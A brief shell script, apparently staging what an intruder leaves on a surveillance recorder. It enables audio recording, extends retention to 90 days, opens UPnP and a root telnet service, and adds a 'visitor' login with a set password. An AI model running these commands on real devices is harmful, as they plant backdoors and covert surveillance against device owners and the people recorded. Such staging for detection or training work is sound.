# What a visitor with a shell leaves behind: sound on, 90 days, UPnP and telnet open, an account more, a clip exported.
touch /srv/exports/clip.mp4
sed -i 's/^record_audio.*/record_audio = yes/' /etc/recorder.conf
systemctl restart recorder
sed -i -E 's/-mmin \+[0-9]+/-mmin +129600/' /etc/systemd/system/sightline-retention.service # 90 days
systemctl daemon-reload
systemctl unmask --quiet miniupnpd
systemctl enable --quiet --now miniupnpd
grep -q '^telnet' /etc/inetd.conf || printf 'telnet\tstream\ttcp\tnowait\troot\t/usr/sbin/telnetd\ttelnetd\n' >>/etc/inetd.conf
systemctl enable --quiet --now inetutils-inetd
useradd --create-home --shell /bin/bash visitor
echo visitor:Came-by-2027 | chpasswd
